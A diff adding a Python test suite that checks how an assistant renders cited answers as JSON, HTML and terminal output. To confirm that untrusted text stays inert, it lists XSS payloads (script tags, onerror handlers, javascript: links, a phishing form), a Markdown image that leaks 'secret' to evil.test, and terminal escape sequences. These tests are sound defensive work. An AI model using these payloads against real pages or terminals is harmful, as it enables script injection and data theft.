@@ -1,0 +1,454 @@
+"""An answer as people and scripts see it."""
+
+from __future__ import annotations
+
+import datetime
+import io
+import json
+import re
+import unicodedata
+from collections.abc import Callable
+from dataclasses import replace
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from rich.console import Console
+
+from assistant.articles.reading import normalise
+from assistant.rendering import (
+    BY_RULE,
+    CLOSEST,
+    FROM_RECORD,
+    LABELS,
+    NOT_WRITTEN,
+    READING,
+    THE_SAME,
+    WRITING,
+    article_paragraphs,
+    escape,
+    headline,
+    markdown,
+    pieces,
+    publisher_link,
+    terminal,
+    to_json,
+    without_markers,
+)
+from assistant.types import Answer, Article, Citation, Status, Timings
+
+OURS = {"div", "p", "ol", "li", "b", "blockquote", "a", "span", "br"}
+"""The elements that an answer consists of."""
+
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    '<img src="x" onerror="alert(1)">',
+    "![x](https://evil.test/?q=secret)",
+    "[click](javascript:alert(1))",
+    "<https://evil.test> www.evil.test me@evil.test",
+    '<form action="https://evil.test"><button>Log in</button></form>',
+    '<div style="position:fixed;inset:0">',
+    "```mermaid\ngraph TD; A[<img src=x>]\n```",
+    "$$\\href{javascript:alert(1)}{x}$$",
+    "    indented code\n\n# heading\n\n- item\n\n---\n| a | b |\n|---|---|",
+    "&lt;b&gt; &amp; </div></li></ol>",
+    '" onclick="alert(1)" x="',
+    "**bold** _it_ `code` ~~gone~~ [1]: https://evil.test",
+)
+
+strange_text = st.lists(st.one_of(st.text(max_size=20), st.sampled_from(PAYLOADS)), max_size=4).map(" ".join)
+
+
+def an_article(text: str, title: str = "A title", date: datetime.date | None = None) -> Article:
+    """Return an article with this text."""
+    return Article(id="an-article", text=text, title=title, date=date)
+
+
+def cite(number: int, quote: str, title: str = "A title", date: datetime.date | None = None) -> Citation:
+    """Return a citation of these words, which stand in an article between others."""
+    return Citation(number, an_article(f"Before. {quote} After.", title, date), 8, 8 + len(quote))
+
+
+def replace_url(citation: Citation, url: str) -> Citation:
+    """Return the citation of an article that has this address."""
+    return replace(citation, article=replace(citation.article, url=url))
+
+
+class Seen(HTMLParser):
+    """What a browser would make of HTML: its elements, their attributes, and its text."""
+
+    def __init__(self, html: str) -> None:
+        """Read the HTML."""
+        super().__init__()
+        self.tags: list[str] = []
+        self.attributes: list[tuple[str, str | None]] = []
+        self.text = ""
+        self.marked = ""
+        self._in_mark = False
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        """Remember an element; a break is a line feed."""
+        self.tags.append(tag)
+        self.attributes += attrs
+        self._in_mark = self._in_mark or tag == "mark"
+        self.handle_data("\n" if tag == "br" else "")
+
+    def handle_endtag(self, tag: str) -> None:
+        """Leave a mark."""
+        self._in_mark = self._in_mark and tag != "mark"
+
+    def handle_data(self, data: str) -> None:
+        """Remember text."""
+        self.text += data
+        self.marked += data if self._in_mark else ""
+
+    def all(self, attribute: str) -> list[str | None]:
+        """Return the values of an attribute, in order."""
+        return [value for name, value in self.attributes if name == attribute]
+
+
+def markers(html: str) -> list[tuple[int, int]]:
+    """Return the number of each marker in an answer, and where the words end that its link leads to."""
+    found = re.findall(r'end=(\d+)#quote"><span class="hidden">Quotation&nbsp;</span>&#91;(\d+)&#93;</a>', html)
+    return [(int(number), int(end)) for end, number in found]
+
+
+def squeezed(text: str) -> str:
+    """Return text without white space, which browsers do not keep."""
+    return "".join(text.split())
+
+
+def shown(answer: Answer, *, colours: bool = False) -> str:
+    """Return what the terminal receives."""
+    file = io.StringIO()
+    Console(file=file, width=100, force_terminal=colours, highlight=False).print(terminal(answer))
+    return file.getvalue()
+
+
+# For a script
+
+
+def test_json_has_exactly_the_form_of_the_contract() -> None:
+    """The keys and values that scripts read are those of the contract; more keys may follow."""
+    answer = Answer(
+        question="How much?",
+        status=Status.ANSWERED,
+        text="Nine. [1]",
+        citations=(cite(1, "Nine."),),
+        timings=Timings(95.2, 2100.4),
+        model="a-model",
+    )
+    seen = json.loads(json.dumps(to_json(answer, "q001")))
+    assert (
+        seen
+        | {
+            "id": "q001",
+            "question": "How much?",
+            "status": "answered",
+            "answer": "Nine. [1]",
+            "citations": [{"number": 1, "article": "an-article", "start": 8, "end": 13, "quote": "Nine."}],
+            "timings": {"first_ms": 95, "total_ms": 2100},
+            "model": "a-model",
+            "error": None,
+        }
+        == seen
+    )
+    assert list(seen)[:8] == ["id", "question", "status", "answer", "citations", "timings", "model", "error"]
+
+
+def test_json_says_null_where_there_is_nothing() -> None:
+    """An answer without an identifier and without evidence has null for both, and keeps the error."""
+    seen = to_json(Answer("?", Status.INDEX_UNAVAILABLE, error="It broke."))
+    assert (seen["id"], seen["timings"]["first_ms"], seen["citations"], seen["error"]) == (None, None, [], "It broke.")
+
+
+# Markers
+
+
+@given(
+    st.lists(
+        st.tuples(
+            st.text(st.sampled_from("abc [12]\"'"), max_size=12).map(lambda words: f"A{words}z."),
+            st.lists(st.integers(1, 4), min_size=1, max_size=2, unique=True),
+        ),
+        min_size=1,
+        max_size=4,
+    )
+)
+def test_the_links_of_an_answer_are_the_markers_that_were_appended(sentences: list[tuple[str, list[int]]]) -> None:
+    """Each appended marker is a link to its quotation, in order; brackets inside a sentence never are one."""
+    text = " ".join(f"{words} {''.join(f'[{number}]' for number in numbers)}" for words, numbers in sentences)
+    answer = Answer("?", Status.ANSWERED, text, tuple(cite(number, "Words."[:number]) for number in range(1, 5)))
+    appended = [number for _, numbers in sentences for number in numbers]
+    assert markers(markdown(answer)) == [(number, 8 + number) for number in appended]
+    assert without_markers(answer) == " ".join(words for words, _ in sentences)
+
+
+@pytest.mark.parametrize(
+    ("text", "quote", "linked"),
+    [
+        ("It rose [2023] a lot. [1]", "It rose [2023] a lot.", [1]),
+        ("Player [1] scored. [1]", "Player [1] scored.", [1]),
+        ("Player [1] scored twice. [1]", "Then player [1] scored again.", [1]),
+        ("Player [1] Smith scored. [1]", "Player [1] Smith scored.", [1]),
+        ("See note [1] [1]", "See note [1]", [1]),
+        ("It ends with 1[1]", "It ends with 1[1]", []),
+        ("One. [1][7]", "One.", []),
+        ("One. [1]\n\nTwo. [1]", "One.", [1, 1]),
+        (f"One. [{'9' * 5000}]", "One.", []),
+    ],
+)
+def test_brackets_of_the_article_are_not_citations(text: str, quote: str, linked: list[int]) -> None:
+    """A bracketed number in the article's own words, or without a citation, stays text."""
+    found = pieces(Answer("?", Status.ANSWERED, text, (cite(1, quote),)))
+    assert [number for piece in found for number in piece.numbers] == linked
+
+
+def test_the_marker_behind_a_quotation_is_a_link_whatever_is_quoted_next() -> None:
+    """A sentence that is too long for one piece goes on in small letters in the next one."""
+    first, rest = "Its faculty includes Ann Lee and", "former mayor Bo Tang [2] and others."
+    answer = Answer("?", Status.ANSWERED, f"{first} [1] {rest} [2]", (cite(1, first), cite(2, rest)))
+    assert [piece.numbers for piece in pieces(answer)] == [(1,), (2,)]
+    assert without_markers(answer) == f"{first} {rest}"
+
+
+# For a browser
+
+
+@given(strange_text, strange_text, strange_text)
+def test_nothing_that_a_stranger_wrote_becomes_markup(words: str, quote: str, title: str) -> None:
+    """The words of model, article and title are seen as they are, between elements and attributes of ours only."""
+    quote = normalise(quote)
+    citation = cite(1, quote, title)
+    written = Answer("?", Status.ANSWERED, f"{words} [1]", (citation,))
+    declined = Answer("?", Status.DECLINED, closest=(citation,))
+    for html in (markdown(written), markdown(declined)):
+        assert "\n\n" not in html
+        assert MarkdownIt("commonmark").render(html).strip() == html.strip()
+        seen = Seen(html)
+        assert set(seen.tags) <= OURS
+        assert {name for name, _ in seen.attributes} <= {"class", "id", "tabindex", "href", "target", "rel"}
+        assert all(
+            link and re.fullmatch(r"/article/an-article\?start=8&end=\d+#quote", link) for link in seen.all("href")
+        )
+        assert squeezed(quote) in squeezed(seen.text)
+        assert squeezed(normalise(title)) in squeezed(seen.text)
+    assert squeezed(normalise(words)) in squeezed(Seen(markdown(written)).text)
+
+
+@given(strange_text)
+def test_escaped_text_stays_within_an_attribute(text: str) -> None:
+    """Text within quotation marks cannot end them."""
+    seen = Seen(f'<i title="{escape(text)}">')
+    assert seen.tags == ["i"]
+    assert [name for name, _ in seen.attributes] == ["title"]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_ascii_punctuation_reaches_markdown(payload: str) -> None:
+    """Even where Markdown is read, an escaped payload is one paragraph of text."""
+    html = MarkdownIt("js-default", {"html": True}).render(f"x{escape(payload)}")
+    assert set(Seen(html).tags) <= {"p", "br"}
+
+
+def test_quotations_name_their_article_and_lead_to_it() -> None:
+    """Under the answer stand the quoted words, the article's title and date, and a link to the place."""
+    answer = Answer(
+        "?", Status.ANSWERED, "It fell. [1]", (cite(1, "It fell by a fifth.", date=datetime.date(2018, 10, 18)),)
+    )
+    html = markdown(answer, "answer-7")
+    seen = Seen(html)
+    assert "[1]It fell by a fifth.A title, 18 October 2018, paragraph 1" in seen.text
+    assert seen.all("href") == 2 * ["/article/an-article?start=8&end=27#quote"]
+    assert {"answer-7", "answer-7-1"} <= set(seen.all("id"))
+    # What stays on the page must not say that it opens a tab.
+    assert seen.all("target") == []
+    assert "(opens in a new tab)" not in seen.text
+
+
+def test_a_quotation_leads_to_its_words_at_the_publisher() -> None:
+    """Where the article has an address, each quotation links to it with the quoted words as text fragment."""
+    citation = replace_url(cite(1, "He said - well, all-in & more."), "https://paper.test/story?id=1#top")
+    address = publisher_link(citation)
+    assert address == "https://paper.test/story?id=1#top:~:text=He%20said%20%2D%20well%2C%20all%2Din%20%26%20more."
+    assert address in Seen(markdown(Answer("?", Status.QUOTED, "", (citation,)))).all("href")
+
+
+@pytest.mark.parametrize("quote", [" ".join("abcdefghijklmnopqrstuvwxyz"), "a b c d e f g h\n\ns t u v w x y z"])
+def test_a_long_quotation_is_given_by_its_ends(quote: str) -> None:
+    """A browser finds a long quotation, or one over several paragraphs, by its first and its last words."""
+    address = publisher_link(replace_url(cite(1, quote), "https://paper.test"))
+    assert address == "https://paper.test#:~:text=a%20b%20c%20d%20e%20f%20g%20h,s%20t%20u%20v%20w%20x%20y%20z"
+
+
+def test_a_quotation_names_its_paragraph() -> None:
+    """The number is that of the paragraph in the article as it is shown, also for a quotation that is its beginning."""
+    article = an_article("One.\n\nTwo\nlines.\n\nThree.")
+    html = markdown(Answer("?", Status.QUOTED, "", (Citation(1, article, article.text.index("Three"), 20),)))
+    assert "paragraph 3" in Seen(html).text
+    assert 'id="paragraph-3"' in article_paragraphs(article)
+
+
+@pytest.mark.parametrize("render", [markdown, shown])
+@pytest.mark.parametrize("status", [Status.QUOTED, Status.ANSWERED])
+def test_an_answer_of_quotations_says_nothing_twice(render: Callable[[Answer], str], status: Status) -> None:
+    """Where the answer is its quotations, they are shown once, also where a model chose the words."""
+    answer = Answer("?", status, "Ab cd. [1] Ef gh. [2]", (cite(1, "Ab cd."), cite(2, "Ef gh.")), model="a.gguf")
+    assert headline(answer) == LABELS[Status.QUOTED]
+    text = Seen(render(answer)).text
+    assert (text.count("Ab cd."), text.count("Ef gh.")) == (1, 1)
+    assert text.index("[1]") < text.index("Ab cd.") < text.index("[2]") < text.index("Ef gh.")
+
+
+@pytest.mark.parametrize(
+    ("words", "is_copy"),
+    [
+        ("It fell by 5.5%, he said.", True),
+        ("it  fell by 5.5%, he said", True),
+        ("It fell by 55%, he said.", False),
+        ("It fell by 5.5%.", False),
+        ("It fell by 5.5%, he said, and rose.", False),
+    ],
+)
+def test_a_sentence_that_copies_its_quotation_says_so(words: str, is_copy: bool) -> None:  # noqa: FBT001
+    """Beside another sentence, the quotation is said to be the same words, and only one that is."""
+    quotations = (cite(1, "It fell by 5.5%, he said."), cite(2, "Ef gh ij."))
+    html = markdown(Answer("?", Status.ANSWERED, f"{words} [1] Ef gh. [2]", quotations, model="a.gguf"))
+    assert html.count('<blockquote class="again">') == html.count(f"{THE_SAME}: ") == is_copy
+
+
+@pytest.mark.parametrize("render", [markdown, shown])
+def test_a_refusal_offers_the_closest_words_as_no_answer(render: Callable[[Answer], str]) -> None:
+    """A refusal says so, labels the closest words, and numbers nothing."""
+    answer = Answer("?", Status.DECLINED, closest=(cite(1, "Something else."),))
+    text = Seen(render(answer)).text
+    assert text.index(LABELS[Status.DECLINED]) < text.index(CLOSEST) < text.index("Something else.")
+    assert "[1]" not in text
+
+
+# Wording
+
+
+@pytest.mark.parametrize("status", Status)
+def test_every_status_has_its_own_wording_everywhere(status: Status) -> None:
+    """Page and terminal begin with the fixed wording of the status, and show the text that comes with it."""
+    citations = (cite(1, "Words."),) if status is Status.ANSWERED else ()
+    answer = Answer("?", status, "Some text.", citations, model="a.gguf")
+    for text in (Seen(markdown(answer)).text, shown(answer)):
+        assert text.startswith(LABELS[status])
+        assert "Some text." in text
+    assert len(set(LABELS.values())) == len(Status)
+
+
+@pytest.mark.parametrize(("status", "line"), [(Status.QUOTED, READING), (Status.ANSWERED, WRITING)])
+def test_a_snapshot_says_that_a_better_one_follows(status: Status, line: str) -> None:
+    """Words that may still be replaced are not presented as the answer."""
+    answer = Answer("?", status, "Some words. [1]", (cite(1, "Words."),), final=False)
+    assert headline(answer) == line
+    assert LABELS[status] not in Seen(markdown(answer)).text
+    assert headline(replace(answer, final=True, model="a.gguf")) == LABELS[status]
+
+
+def test_what_no_model_wrote_is_not_said_to_be_written_by_one() -> None:
+    """Who said it is told by rule, and the line above it does not speak of AI."""
+    answer = Answer("Who?", Status.ANSWERED, "Brook said so. [1]", (cite(1, "“Yes,” Brook said."),))
+    assert headline(answer) == BY_RULE
+    assert headline(replace(answer, model="a.gguf")) == LABELS[Status.ANSWERED]
+
+
+def test_facts_from_the_record_are_not_said_to_be_checked_against_words() -> None:
+    """An answer without citations does not claim that it rests on quoted words."""
+    assert headline(Answer("When?", Status.ANSWERED, "The article is dated 18 October 2018.")) == FROM_RECORD
+
+
+def test_the_date_is_said_where_it_is_one() -> None:
+    """An answer from articles of one date is as of that date; from several, each quotation has its own."""
+    first = cite(1, "Ab.", date=datetime.date(2018, 10, 18))
+    second = cite(2, "Cd.", date=datetime.date(2019, 1, 2))
+    assert headline(Answer("?", Status.QUOTED, "", (first, replace(first, number=2)))).endswith(
+        ", as of 18 October 2018"
+    )
+    assert headline(Answer("?", Status.QUOTED, "", (first, second))) == LABELS[Status.QUOTED]
+    assert headline(Answer("?", Status.QUOTED, "", (cite(1, "Ab."),))) == LABELS[Status.QUOTED]
+
+
+def test_only_the_operator_sees_why_the_model_failed() -> None:
+    """The terminal shows the error; a reader of the page is told that the quotation stands."""
+    answer = Answer("?", Status.QUOTED, "Ab. [1]", (cite(1, "Ab."),), error="connection to 10.0.0.7 refused")
+    assert "10.0.0.7" in shown(answer)
+    assert "10.0.0.7" not in Seen(markdown(answer)).text
+    assert NOT_WRITTEN in Seen(markdown(answer)).text
+
+
+# The article
+
+
+spans = st.tuples(st.integers(0, 80), st.integers(0, 80))
+
+
+@given(strange_text.map(normalise), spans, st.lists(spans, max_size=3))
+def test_the_marked_words_are_those_at_the_offsets(
+    text: str, current: tuple[int, int], others: list[tuple[int, int]]
+) -> None:
+    """The page of an article shows its whole text, and marks the cited characters and no others."""
+    seen = Seen(article_paragraphs(an_article(text), current, others))
+    assert squeezed(seen.text) == squeezed(text)
+    marked = {offset for start, end in (current, *others) for offset in range(start, end)}
+    assert squeezed(seen.marked) == squeezed("".join(c for offset, c in enumerate(text) if offset in marked))
+    assert set(seen.tags) <= {"p", "mark", "br"}
+    assert ("quote" in seen.all("id")) >= bool(squeezed(text[slice(*current)]))
+
+
+@given(st.text("ab \n", max_size=40), spans, spans)
+def test_of_several_quotations_the_current_one_stands_out(
+    text: str, current: tuple[int, int], other: tuple[int, int]
+) -> None:
+    """The marks of the class `current` are the current quotation whole, also where another overlaps it."""
+    html = article_paragraphs(an_article(text), current, [other])
+    strong = re.findall(r'<mark class="current"[^>]*>(.*?)</mark>', html)
+    assert squeezed(Seen("".join(strong)).text) == squeezed(text[slice(*current)])
+
+
+def test_a_quotation_over_two_paragraphs_is_marked_in_both() -> None:
+    """The marks together are the quotation, and the first is where the link leads."""
+    seen = Seen(article_paragraphs(an_article("One two.\n\nThree four."), (4, 15)))
+    assert seen.tags == ["p", "mark", "p", "mark"]
+    assert seen.marked == "two.Three"
+    assert seen.all("id") == ["paragraph-1", "quote", "paragraph-2"]
+
+
+# For a terminal
+
+
+@given(strange_text, strange_text, strange_text)
+def test_no_character_commands_the_terminal(words: str, quote: str, error: str) -> None:
+    """Whatever comes from elsewhere, the terminal receives printable characters and line feeds."""
+    answer = Answer("?", Status.QUOTED, f"{words} [1]", (cite(1, quote, title=words),), error=error)
+    assert not {c for c in shown(answer) if unicodedata.category(c) == "Cc" and c not in "\n\t"}
+
+
+@pytest.mark.parametrize(
+    "sequence", ["\x1b[31m", "\x1b[2J", "\x1b]0;title\x07", "\x1b]8;;https://evil.test\x1b\\", "\x9b31m", "\x1bc"]
+)
+def test_terminal_sequences_leave_nothing_behind(sequence: str) -> None:
+    """A sequence goes as a whole, not only its first character."""
+    answer = Answer("?", Status.ANSWERED, f"be{sequence}fore. [1]", (cite(1, "Ab."),))
+    assert "\nbefore. [1]\n" in shown(answer)
+
+
+def test_square_brackets_are_text_in_a_terminal() -> None:
+    """What looks like the markup of our terminal library is shown as it is."""
+    answer = Answer("?", Status.ANSWERED, "[bold]He[/bold] [link=https://evil.test]x[/link]. [1]", (cite(1, "Ab."),))
+    assert "[bold]He[/bold] [link=https://evil.test]x[/link]. [1]" in shown(answer)
+
+
+def test_the_terminal_shows_the_status_in_colour_and_the_quotations_under_the_answer() -> None:
+    """A person sees what kind of answer it is, the answer, and the words it rests on, in that order."""
+    answer = Answer("?", Status.ANSWERED, "It fell. [1]", (cite(1, "It fell by a fifth."),), model="a.gguf")
+    text = shown(answer)
+    assert text.index(LABELS[Status.ANSWERED]) < text.index("It fell. [1]") < text.index("[1] It fell by a fifth.")
+    assert "\x1b[1;32m" in shown(answer, colours=True)
